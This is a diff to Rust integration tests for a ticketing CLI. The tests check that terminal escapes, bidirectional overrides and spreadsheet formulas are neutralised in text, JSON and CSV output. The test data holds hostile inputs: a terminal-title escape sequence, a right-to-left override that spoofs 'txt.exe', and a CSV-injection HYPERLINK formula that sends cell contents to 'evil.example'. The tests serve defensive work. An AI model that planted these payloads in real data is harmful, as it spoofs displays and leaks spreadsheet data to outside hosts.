@@ -10,6 +10,8 @@ use std::process::{Command, Stdio};
 use sandbox::{Sandbox, with_db};
 
 const EVIL: &str = "Evil \u{1b}]0;pwned\u{7} \u{202E}txt.exe";
+/// What one-line fields still take: a direction override, no control character.
+const BIDI: &str = "Evil \u{202E}txt.exe";
 
 fn no_panic(out: &std::process::Output) {
     let stderr = String::from_utf8_lossy(&out.stderr);
@@ -82,24 +84,34 @@ fn escape_sequences_and_direction_overrides_never_reach_the_terminal() {
     let s = Sandbox::new();
     let db = s.db();
     s.ok(&with_db(&db, &["init"]));
+    // One-line fields refuse control characters (the refusal repeats the
+    // value inert); direction overrides pass, and what was stored before the
+    // checks (or by another tool) comes in by SQL.
+    let refused = s.run(&with_db(&db, &["team", "add", EVIL]));
+    let stderr = String::from_utf8(refused.stderr).unwrap();
+    assert!(!refused.status.success() && !stderr.contains('\u{1b}'), "{stderr:?}");
     let mut outputs = vec![
-        s.ok(&with_db(&db, &["ticket", "new", "--title", EVIL, "--reporter", EVIL, "--description", EVIL])),
-        s.ok(&with_db(&db, &["team", "add", EVIL])),
-        s.ok(&with_db(&db, &["ticket", "restrict", "1", "--team", EVIL])),
+        s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer", "--reporter", "Anna", "--description", EVIL])),
+    ];
+    sql(&db, &format!("UPDATE tickets SET title = '{EVIL}', reporter_name = '{EVIL}'"));
+    outputs.extend([
+        s.ok(&with_db(&db, &["team", "add", BIDI])),
+        s.ok(&with_db(&db, &["ticket", "restrict", "1", "--team", BIDI])),
         s.ok(&with_db(&db, &["ticket", "note", "1", EVIL])),
         s.ok(&with_db(&db, &["team", "list"])),
         s.ok(&with_db(&db, &["ticket", "list"])),
         s.ok(&with_db(&db, &["ticket", "show", "1"])),
         s.ok(&with_db(&db, &["report", "volume"])),
-    ];
+    ]);
     s.ok(&with_db(&db, &["privacy", "erase", "--reporter", "nobody@example.com"]));
     sql(&db, &format!("UPDATE privacy_log SET actor = '{EVIL}', subject = '{EVIL}'"));
     outputs.push(s.ok(&with_db(&db, &["privacy", "log"])));
     for out in &outputs {
         assert!(!out.contains('\u{1b}') && !out.contains('\u{7}') && !out.contains('\u{202E}'), "{out:?}");
     }
-    assert!(outputs[1].contains("Evil ␛]0;pwned␇ \u{FFFD}txt.exe"), "{}", outputs[1]);
-    assert!(outputs[2].contains("Evil ␛]0;pwned␇"), "{}", outputs[2]);
+    assert!(outputs[1].contains("Evil \u{FFFD}txt.exe"), "{}", outputs[1]);
+    assert!(outputs[2].contains("Evil \u{FFFD}txt.exe"), "{}", outputs[2]);
+    assert!(outputs[5].contains("Evil ␛]0;pwned␇ \u{FFFD}txt.exe"), "{}", outputs[5]);
     // An error that repeats what was typed repeats it inert.
     let bad = s.run(&with_db(&db, &["ticket", "list", "--sort", EVIL]));
     let stderr = String::from_utf8(bad.stderr).unwrap();
@@ -113,7 +125,8 @@ fn json_keeps_the_data_exact_but_escapes_what_a_terminal_would_act_on() {
     let db = s.db();
     s.ok(&with_db(&db, &["init"]));
     let title = format!("{EVIL} \u{9b}31m zero\u{200B}width");
-    s.ok(&with_db(&db, &["ticket", "new", "--title", &title, "--reporter", "Anna"]));
+    s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer", "--reporter", "Anna"]));
+    sql(&db, &format!("UPDATE tickets SET title = '{title}'"));
     for args in [vec!["ticket", "list", "--json"], vec!["ticket", "show", "1", "--json"], vec!["export"]] {
         let out = s.ok(&with_db(&db, &args));
         assert!(out.contains("\\u001b") && out.contains("\\u202e") && out.contains("\\u009b"), "{args:?}: {out}");
@@ -137,8 +150,8 @@ fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
     let db = s.db();
     s.ok(&with_db(&db, &["init"]));
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
-    s.ok(&with_db(&db, &["ticket", "new", "--title", formula, "--reporter", "@Anna", "--department", "+Sales"]));
-    sql(&db, "UPDATE tickets SET category = '-2+3'");
+    s.ok(&with_db(&db, &["ticket", "new", "--title", formula, "--reporter", "@Anna"]));
+    sql(&db, "UPDATE tickets SET category = '-2+3', department = '+Sales'");
     let out = s.ok(&with_db(&db, &["export", "--format", "csv"]));
     let mut reader = csv::Reader::from_reader(out.as_bytes());
     let header = reader.headers().unwrap().clone();
